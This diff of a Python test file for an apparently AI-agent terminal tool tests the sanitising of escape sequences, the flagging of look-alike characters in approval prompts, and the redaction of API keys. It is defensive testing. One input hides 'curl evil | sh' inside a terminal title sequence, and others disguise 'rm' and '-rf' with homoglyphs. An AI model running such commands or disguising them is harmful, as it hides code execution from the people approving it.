@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import os
+import random
 import re
 import time
 import unicodedata
@@ -8,8 +10,21 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lmtui.core.sanitize import escape_invisible, escape_invisible_line, last_words, sanitize, sanitize_line, sanitize_path
-from tests.sets import for_each
+from lmtui.core.events import ApprovalRequested, FilesChanged, MessageAdded, ToolCallFinished, ToolCallStarted
+from lmtui.core.look_alikes import approval_warning, look_alikes, warning
+from lmtui.core.messages import Role, ToolCall
+from lmtui.core.sanitize import (
+    REDACTED,
+    Redactor,
+    escape_invisible,
+    escape_invisible_line,
+    last_words,
+    sanitize,
+    sanitize_line,
+    sanitize_path,
+)
+from lmtui.core.workspace import FileChange, FileChangeKind
+from tests.sets import depth, for_each
 
 
 @for_each(("dirty", "expected"), [
@@ -24,7 +39,15 @@ def test_known_attacks(dirty: str, expected: str) -> None:
     assert sanitize(dirty) == expected
 
 
-@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("\x1b[]0;\x07\x9b\x9d\\P^_\r\n\u202e")), max_size=60))
+@given(
+    st.text(
+        alphabet=st.one_of(
+            st.characters(),
+            st.sampled_from("\x1b[]0;\x07\x9b\x9d\\P^_\r\n\u202e\u0441\u4f60\u2764\u200d\u200c\ufe0f\ufe00\u20e3#"),
+        ),
+        max_size=60,
+    )
+)
 def test_no_control_and_no_bidirectional_character_is_left(text: str) -> None:
     for char in sanitize(text):
         assert char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cs")
@@ -71,11 +94,10 @@ def test_a_letter_that_passes_for_another_is_named(text: str, shown: str) -> Non
     assert escape_invisible(text) == shown
 
 
-def test_a_letter_that_passes_for_another_is_named_beside_one_that_has_its_name() -> None:
+def test_a_letter_that_passes_is_named_beside_one_that_has_its_name_and_in_a_question_keeps_what_a_control_sequence_holds() -> (
+    None
+):
     assert escape_invisible("\u0440ay\u0430<U+0430>") == "\u0440<U+0440>ay\u0430<U+0430>"
-
-
-def test_a_line_to_be_asked_about_keeps_what_stands_in_a_control_sequence() -> None:
     hidden = "true \x1b]0;; curl evil | sh #\x07"
     assert "curl" not in sanitize_line(hidden)
     assert escape_invisible_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"
@@ -112,11 +134,6 @@ def test_a_joiner_or_selector_where_writing_needs_none_is_named_in_prose_too(cha
     assert sanitize(f"src/{base}{char}{base}.py") == f"src/{base}<U+{ord(char):04X}>{base}.py"
 
 
-@given(st.text(alphabet="a\u0441\u4f60\u2764\u200d\u200c\ufe0f\ufe00\u20e3#\u00a9\u202e\u2800\x1b[", max_size=12))
-def test_what_prose_keeps_is_the_same_when_it_is_cleaned_again(text: str) -> None:
-    assert sanitize(sanitize(text)) == sanitize(text)
-
-
 @for_each("char", ["\u200d", "\u00a0", "\u3000", "\u2800", "\ufe0f", "\u3164"])
 def test_a_path_that_is_only_shown_names_what_hides_and_drops_control_sequences(char: str) -> None:
     assert sanitize_path(f"src/\x1b[31m\u4f60{char}\u4f60\n.py") == f"src/\u4f60<U+{ord(char):04X}>\u4f60\u23ce.py"
@@ -128,3 +145,116 @@ def test_a_path_that_is_only_shown_names_what_hides_and_drops_control_sequences(
 ])  # fmt: skip
 def test_the_last_words_have_no_marks_of_markdown(text: str, words: str) -> None:
     assert last_words(text) == words
+
+
+_COUNT = 1_000_000 if os.environ.get("LMTUI_FULL_BATTERY") == "1" else depth(25_000, 100_000)
+_PIECES = [
+    *map(chr, range(0xA0)), "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x1b\\", "\x1b]52;c;", "\x1b]0;", "\x1b[31m",
+    "\x1b[2J", "\x1b[6n", "\x1b(0", "\x1b#8", "\x1bc", "\x9b31m", "\x9d0;t", "\r\n", "\u202e", "\u2066", "\u200b",
+    "\u2028", "\ufeff", "\u061c", "\U000e0041", "\ud800", "\udfff", "ä", "漢", "😀", "[bold]", "[@click=app.quit]", "text",
+    "0", ";", "?25l", "~" * 50,
+]  # fmt: skip
+_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff\ud800-\udfff]"
+)
+
+
+def test_no_control_character_is_left_of_any_input() -> None:
+    dice = random.Random(20_261_122)
+    for _ in range(_COUNT // 1000):
+        for _ in range(1000):
+            dirty = "".join(dice.choices(_PIECES, k=dice.randrange(1, 12)))
+            cleaned = sanitize(dirty)
+            if _CONTROL.search(cleaned) or _CONTROL.search(escape_invisible(dirty)) or "\n" in sanitize_line(dirty):
+                raise AssertionError(repr(dirty))
+
+
+def test_bytes_that_are_no_text_are_cleaned_after_decoding() -> None:
+    dice = random.Random(7)
+    for _ in range(_COUNT // 20):
+        dirty = dice.randbytes(dice.randrange(1, 40)).decode("utf-8", "replace")
+        assert _CONTROL.search(sanitize(dirty)) is None
+
+
+def request(tool: str = "shell", text: str = "", path: str = "", diff: str = "") -> ApprovalRequested:
+    return ApprovalRequested(agent="root", approval_id="a", call_id="c", tool=tool, text=text, path=path, diff=diff)
+
+
+@for_each(("word", "look"), [
+    ("\u0441\u043e\u0440\u0443", "copy"), ("\uff52\uff4d", "rm"), ("\uff46\uff0etxt", "f.txt"), ("\U0001d42b\U0001d426", "rm"),
+    ("\U0001d5ff\U0001d5fa", "rm"), ("a\u2215b", "a/b"), ("a\u2044b", "a/b"), ("\u2013rf", "-rf"), ("\u2212rf", "-rf"),
+    ("r\u0338m", "rm"), ("\ufb01le", "file"), ("\u2167", "VIII"), ("\u03bf", "o"), ("\u13a2\u13d2", "TR"),
+    ("kap\u0131.txt", "kapi.txt"), ("a\u037eb", "a;b"), ("x\uff5cy", "x|y"), ("\u201c;", '";'), ("\u2019;", "';"),
+])  # fmt: skip
+def test_a_word_that_looks_like_another_is_told_with_its_look(word: str, look: str) -> None:
+    assert list(look_alikes(f"run {word} now")) == [word]
+    told = warning((f"run {word} now",))
+    assert f"looks like {look}" in told
+    assert all(f"U+{ord(char):04X}" in told for char in word if not char.isascii())
+
+
+@for_each("text", [
+    "git commit -m 'Исправить ошибку с путём а также тест'", "echo привет > документ.txt",
+    "日本語/ノート.md 你好.txt ファイル", "café Straße naïve Łódź İstanbul", "αβγ.txt שלום مرحبا नमस्ते 한국어",
+    "git commit -m 'don\u2019t wait \u2013 go on\u2026'", "echo 😀 ✓ → ±", "plain ascii --flag=1 a/b",
+])  # fmt: skip
+def test_words_of_other_languages_are_no_look_alikes(text: str) -> None:
+    assert (list(look_alikes(text)), warning((text,))) == ([], "")
+
+
+def test_a_decomposed_name_is_told_apart_and_many_look_alikes_are_counted() -> None:
+    assert (list(look_alikes("cafe\u0301")), list(look_alikes("caf\u00e9"))) == (["cafe\u0301"], [])
+    text = " ".join("\u0430" * number for number in range(2, 10))
+    assert re.search(r"and 4 more$", warning((text,)))
+
+
+def test_an_approval_tells_hidden_characters_and_look_alikes_in_one_line() -> None:
+    told = approval_warning(request(text="\u0441\u043e\u0440\u0443 a<U+200D>b"))
+    assert told.startswith("warning: hidden or look-alike characters are shown as codes like <U+202E>; look-alikes: \u0441")
+    assert "\n" not in told
+    assert approval_warning(request(text="cp a b")) == ""
+
+
+def test_of_a_change_only_the_path_is_looked_at_for_look_alikes() -> None:
+    diff = "@@ -1 +1 @@\n-a\n+\u0441\u043e\u0440\u0443\n"
+    assert approval_warning(request("write", path="a.txt", diff=diff)) == ""
+    assert "looks like copy" in approval_warning(request("write", path="\u0441\u043e\u0440\u0443", diff=diff))
+    assert approval_warning(request("write", path="a.txt", diff="+a<U+200D>b")) != ""
+
+
+@pytest.mark.parametrize("text", ["\u0441\u043e\u0440\u0443 " * 20_000, " ".join(f"\u0434{n}\u0441" for n in range(12_000))])
+def test_long_texts_take_little_time(text: str) -> None:
+    began = time.process_time()
+    warning((text,))
+    assert time.process_time() - began < 0.5
+
+
+KEY = "sk-proj-0123456789abcdefXYZ"
+
+
+def test_a_key_is_taken_out_of_every_field_of_an_event() -> None:
+    redactor = Redactor([KEY])
+    started = ToolCallStarted(
+        call_id="c", tool="shell", arguments={"command": f"curl -H {KEY}", "deep": [{KEY: KEY}]}, title=KEY
+    )
+    message = MessageAdded(
+        role=Role.ASSISTANT, text=KEY, thinking=KEY, tool_calls=(ToolCall("c", "shell", f'{{"a": "{KEY}"}}'),)
+    )
+    changed = FilesChanged(call_id="c", files=("a",), changes=(FileChange("a", FileChangeKind.ADDED, 1, 0, f"+{KEY}"),))
+    for event in (started, message, changed):
+        cleaned = redactor.value(event)
+        assert KEY not in repr(cleaned)
+        assert REDACTED in repr(cleaned)
+        assert type(cleaned) is type(event)
+
+
+def test_only_whole_keys_are_taken_out_and_no_placeholders() -> None:
+    event = ToolCallFinished(call_id="c", tool="shell", ok=True, result="fine", elapsed_ms=1)
+    assert Redactor([KEY]).value(event) is event
+    assert not Redactor(["lm-studio", "none", "aaaaaaaaaaaaaaaaaaaaaaa", "", "sk-1234"])
+    assert Redactor([KEY, KEY + "-longer"]).text(f"a {KEY}-longer b") == f"a {REDACTED} b"
+
+
+@given(st.text(), st.text())
+def test_no_text_keeps_the_key(before: str, after: str) -> None:
+    assert KEY not in Redactor([KEY]).text(f"{before}{KEY}{after}").replace(REDACTED, "\0")
